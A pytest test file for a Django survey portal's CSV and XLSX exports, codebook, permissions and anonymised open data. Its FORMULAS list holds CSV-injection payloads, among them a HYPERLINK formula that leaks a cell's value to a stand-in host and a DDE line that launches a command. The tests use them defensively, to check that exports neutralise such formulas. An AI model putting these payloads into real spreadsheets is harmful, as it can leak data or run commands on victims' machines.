"""The exports read back: CSV and XLSX rows and codebook, rendered as documents off the request
path and downloaded from their status page, and the open data without free text."""

import csv
import io
import json
import time

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse

from ivanovo_portal import spreadsheets
from ivanovo_portal.documents.models import GeneratedDocument
from ivanovo_portal.documents.selectors import document_of
from surveys import exports
from surveys.models import Channel, Choice, Question, Questionnaire
from tests.conftest import make_user
from tests.surveys.exporting import EXPORTS, exported


def user_with(*codenames, name="exporter"):
    user = make_user(name)
    user.user_permissions.add(
        *Permission.objects.filter(content_type__app_label="surveys", codename__in=codenames)
    )
    return user


@pytest.fixture
def exporter(db):
    return user_with("view_results", "export_responses")


@pytest.fixture
def two_responses(questionnaire, respond):
    first = respond(
        Q1="krasen", Q2="yes", Q3="Бюджетът", Q4=34, Q5="2023-01-15", Q6="other:От съседите",
        Q7=["roads", "jobs", "other:Кучетата"], Q8="4", Q9={"admin": "5", "info": "2"},
        Q10="Повече автобуси",
    )  # fmt: skip
    second = respond(Q1="mechka", Q2="no", Q4=70, Q6="tv", Q8="1", channel=Channel.PAPER)
    return first, second


@pytest.fixture
def export(client, exporter, questionnaire, settings, tmp_path):
    """Ask for an export as the exporter and download it once rendered: ``export(name)``."""
    settings.MEDIA_ROOT = tmp_path
    client.force_login(exporter)
    return lambda name: exported(client, questionnaire, name)


def read_csv(body):
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def read_xlsx(body):
    return openpyxl.load_workbook(io.BytesIO(body))


def test_csv_has_one_row_per_response_and_a_column_per_value(export, two_responses):
    response, body = export("responses.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert ".csv" in response["Content-Disposition"]
    first, second = read_csv(body)
    assert list(first)[:4] == ["response_id", "submitted_at", "channel", "settlement"]
    assert int(first["response_id"]) == two_responses[0].pk
    assert first["channel"] == "online" and second["channel"] == "paper"
    assert first["settlement"] == "Красен" and first["Q1"] == "Красен"
    assert first["Q2"] == "yes" and second["Q2"] == "no"
    assert first["Q3"] == "Бюджетът"
    assert first["Q4"] == "34" and second["Q4"] == "70"
    assert first["Q5"] == "2023-01-15"
    assert first["Q6"] == "" and first["Q6_other"] == "От съседите" and second["Q6"] == "tv"
    assert (first["Q7_roads"], first["Q7_water"], first["Q7_jobs"]) == ("1", "0", "1")
    assert first["Q7_other"] == "Кучетата"
    assert second["Q7_roads"] == ""  # did not answer the question at all
    assert first["Q8"] == "4" and second["Q8"] == "1"
    assert (first["Q9_admin"], first["Q9_info"]) == ("5", "2")
    assert first["Q10"] == "Повече автобуси"


def test_xlsx_has_the_answers_and_the_codebook(export, two_responses):
    response, body = export("responses.xlsx")
    assert response["Content-Type"] == exports.XLSX
    workbook = read_xlsx(body)
    assert workbook.sheetnames == ["Отговори", "Кодова книга"]
    header, *rows = list(workbook["Отговори"].values)
    assert len(rows) == 2
    first = dict(zip(header, rows[0], strict=True))
    assert first["Q4"] == 34 and first["Q8"] == 4 and first["Q7_roads"] == 1
    assert first["Q9_admin"] == 5
    codebook = list(workbook["Кодова книга"].values)
    q8 = [row for row in codebook if row[0] == "Q8"]
    assert [(row[4], row[5]) for row in q8] == [
        ("1", "Много лошо"),
        ("2", "Лошо"),
        ("3", "Средно"),
        ("4", "Добре"),
        ("5", "Много добре"),
    ]
    assert ("Q2", "yes", "Да") in [(row[0], row[4], row[5]) for row in codebook]
    assert any(row[0] == "Q7_roads" and row[4] == "1" for row in codebook)
    assert any(row[0] == "Q9_admin" and row[4] == "5" for row in codebook)
    columns = {row[0] for row in codebook}
    assert set(header) <= columns


def test_the_codebook_comes_as_csv_too(export, two_responses):
    response, body = export("codebook.csv")
    assert ".csv" in response["Content-Disposition"]
    rows = read_csv(body)
    assert ("Q2", "yes", "Да") in [
        (row["Колона"], row["Код на отговора"], row["Отговор"]) for row in rows
    ]


def test_staff_ask_for_an_export_and_follow_its_status(
    client, exporter, questionnaire, two_responses
):
    client.force_login(exporter)
    page = reverse("surveys:exports", args=[questionnaire.slug])
    assert "Подготвяне на „Отговори (CSV)“" in client.get(page).text

    # Without a worker the render waits in the queue, and the page says so.
    client.post(reverse("surveys:export", args=[questionnaire.slug, "responses.csv"]))

    document = document_of(questionnaire, exports.RESPONSES_CSV_KIND)
    assert document.status == GeneratedDocument.Status.QUEUED
    html = client.get(page).text
    assert "CSV файлът изчаква да бъде изготвен." in html
    assert f'data-hx-get="{document.fragment_url}"' in html
    assert client.get(document.fragment_url).status_code == 200


def test_an_unknown_export_is_not_found(client, exporter, questionnaire):
    client.force_login(exporter)
    url = reverse("surveys:export", args=[questionnaire.slug, "responses.ods"])
    assert client.post(url).status_code == 404


def test_exports_need_the_export_permission(client, export, questionnaire, two_responses):
    _response, _body = export("responses.csv")
    document = document_of(questionnaire, exports.RESPONSES_CSV_KIND)
    client.force_login(user_with("view_results", name="viewer"))
    assert client.get(reverse("surveys:exports", args=[questionnaire.slug])).status_code == 403
    for name in EXPORTS:
        url = reverse("surveys:export", args=[questionnaire.slug, name])
        assert client.post(url).status_code == 403
    assert client.get(document.download_url).status_code == 403
    assert client.get(document.get_absolute_url()).status_code == 403


def test_exports_are_never_public(client, export, questionnaire, two_responses):
    _response, _body = export("responses.csv")
    Questionnaire.objects.filter(pk=questionnaire.pk).update(results_published=True)
    document = document_of(questionnaire, exports.RESPONSES_CSV_KIND)
    client.logout()
    assert not document.is_public
    assert client.get(document.download_url).status_code == 403


def test_visitors_are_sent_to_log_in_for_exports(client, questionnaire):
    response = client.get(reverse("surveys:exports", args=[questionnaire.slug]))
    assert response.status_code == 302


def test_open_data_is_public_only_once_results_are_published(client, questionnaire, two_responses):
    url = reverse("surveys:open_data", args=[questionnaire.slug])
    assert client.get(url).status_code == 404
    Questionnaire.objects.filter(pk=questionnaire.pk).update(results_published=True)
    assert client.get(url).json()["respondents"] == 2


def test_open_data_withholds_every_figure_of_two_respondents(client, questionnaire, two_responses):
    Questionnaire.objects.filter(pk=questionnaire.pk).update(results_published=True)
    data = client.get(reverse("surveys:open_data", args=[questionnaire.slug])).json()
    assert data["areas"] == []
    assert set(data["by_channel"].values()) <= {None, 0}
    assert {place["count"] for place in data["by_settlement"].values()} <= {None, 0}
    q8 = next(q for q in data["questions"] if q["code"] == "Q8")
    assert q8["answered"] is None and q8["mean"] is None and q8["median"] is None
    assert {o["count"] for o in q8["options"]} <= {None, 0}


def test_staff_read_the_exact_open_data(client, staff, questionnaire, two_responses):
    client.force_login(staff)
    data = client.get(reverse("surveys:open_data", args=[questionnaire.slug])).json()
    assert data["respondents"] == 2
    assert data["by_channel"] == {"online": 1, "paper": 1, "interview": 0}
    assert data["by_settlement"]["krasen"]["count"] == 1
    q8 = next(q for q in data["questions"] if q["code"] == "Q8")
    assert q8["mean"] == 2.5 and q8["median"] == 2.5
    assert {o["code"]: o["count"] for o in q8["options"]}["4"] == 1
    q6 = next(q for q in data["questions"] if q["code"] == "Q6")
    assert {o["code"]: o["count"] for o in q6["options"]}["other"] == 1


def test_open_data_holds_no_free_text(client, questionnaire, two_responses):
    Questionnaire.objects.filter(pk=questionnaire.pk).update(results_published=True)
    body = client.get(reverse("surveys:open_data", args=[questionnaire.slug])).content.decode()
    for text in ["Бюджетът", "От съседите", "Кучетата", "Повече автобуси"]:
        assert text not in body
    data = json.loads(body)
    q10 = next(q for q in data["questions"] if q["code"] == "Q10")
    assert q10 == {"code": "Q10", "text": q10["text"], "type": "long_text", "answered": None}


def test_staff_see_open_data_before_publication(client, exporter, questionnaire, two_responses):
    client.force_login(exporter)
    response = client.get(reverse("surveys:open_data", args=[questionnaire.slug]))
    assert response.status_code == 200
    assert response.json()["respondents"] == 2


# What people type that a spreadsheet would run (OWASP's CSV injection examples and more).
FORMULAS = [
    '=HYPERLINK("https://x?d="&A2,"y")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formula_answers(questionnaire, respond, question):
    """One response per formula, written into a short text, a long text and both "other" fields,
    beside a negative number; and staff who typed formulas into a question and an option."""
    Question.objects.filter(pk=question("Q10").pk).update(text="=1+1 Какво бихте предложили?")
    Choice.objects.filter(question=question("Q6"), code="tv").update(label="@SUM(1,1)")
    return [
        respond(Q2="yes", Q3=text, Q4=-3, Q6=f"other:{text}", Q7=[f"other:{text}"], Q10=text)
        for text in FORMULAS
    ]


def could_start_a_formula(cell):
    return spreadsheets.neutralised(cell) != cell


def test_csv_neutralises_every_text_that_could_start_a_formula(export, formula_answers):
    _response, body = export("responses.csv")
    rows = read_csv(body)
    assert len(rows) == len(FORMULAS)
    for row, text in zip(rows, FORMULAS, strict=True):
        for column in ["Q3", "Q10", "Q6_other", "Q7_other"]:
            assert row[column] == "'" + text
        assert row["Q4"] == "-3"  # a number stays a number
    for row in rows:
        assert not any(could_start_a_formula(cell) for cell in row.values())


def test_csv_quotes_every_field_so_a_semicolon_starts_no_cell(export, respond):
    respond(Q2="yes", Q3="добре;=1+1")
    _response, body = export("responses.csv")
    assert '"добре;=1+1"' in body.decode("utf-8")


def test_codebook_csv_neutralises_what_staff_typed(export, formula_answers):
    _response, body = export("codebook.csv")
    rows = read_csv(body)
    assert ("Q6", "tv", "'@SUM(1,1)") in [
        (row["Колона"], row["Код на отговора"], row["Отговор"]) for row in rows
    ]
    assert "'=1+1 Какво бихте предложили?" in [row["Въпрос"] for row in rows]
    for row in rows:
        assert not any(could_start_a_formula(cell) for cell in row.values())


def test_xlsx_holds_what_people_typed_as_text_never_as_a_formula(export, formula_answers):
    _response, body = export("responses.xlsx")
    workbook = read_xlsx(body)
    for sheet in workbook:
        for row in sheet.iter_rows():
            assert [cell.coordinate for cell in row if cell.data_type == "f"] == []
    header, *rows = workbook["Отговори"].iter_rows()
    columns = {cell.value: i for i, cell in enumerate(header)}
    for row, text in zip(rows, FORMULAS, strict=True):
        for column in ["Q3", "Q10", "Q6_other", "Q7_other"]:
            cell = row[columns[column]]
            # Kept as typed, a carriage return included (written and read through lxml).
            assert (cell.data_type, cell.value) == ("s", text)
        assert row[columns["Q4"]].value == -3
    codebook = [[cell.value for cell in row] for row in workbook["Кодова книга"].iter_rows()]
    assert ["Q6", "tv", "@SUM(1,1)"] in [[row[0], row[4], row[5]] for row in codebook]
    assert "=1+1 Какво бихте предложили?" in [row[2] for row in codebook]


def test_xlsx_leaves_out_control_characters_a_workbook_cannot_hold(export, respond):
    respond(Q2="yes", Q3="един\x0bдва", Q10="#N/A")
    _response, body = export("responses.xlsx")
    workbook = read_xlsx(body)
    header, row = workbook["Отговори"].iter_rows()
    answers = {name.value: cell for name, cell in zip(header, row, strict=True)}
    assert (answers["Q3"].data_type, answers["Q3"].value) == ("s", "единдва")
    assert (answers["Q10"].data_type, answers["Q10"].value) == ("s", "#N/A")  # text, no error


@pytest.mark.worker
def test_a_worker_renders_the_xlsx_export_of_every_response(
    celery_worker, exporter, questionnaire, respond, client
):
    for number in range(3):
        respond(Q2="yes", Q3=f"=Отговор {number}", Q4=20 + number)
    client.force_login(exporter)

    client.post(reverse("surveys:export", args=[questionnaire.slug, "responses.xlsx"]))

    document = document_of(questionnaire, exports.RESPONSES_XLSX_KIND)
    deadline = time.monotonic() + 60
    while document.status not in {"ready", "failed"} and time.monotonic() < deadline:
        time.sleep(0.05)
        document.refresh_from_db()
    assert document.status == "ready", f"{document.error}\n{celery_worker.log()}"
    assert (document.media_type, document.pages, document.attempts) == (exports.XLSX, None, 1)
    with document.file.open("rb") as file:
        workbook = read_xlsx(file.read())
    header, *rows = workbook["Отговори"].iter_rows()
    columns = {cell.value: i for i, cell in enumerate(header)}
    assert [row[columns["Q4"]].value for row in rows] == [20, 21, 22]
    assert {(row[columns["Q3"]].data_type, row[columns["Q3"]].value) for row in rows} == {
        ("s", f"=Отговор {number}") for number in range(3)
    }
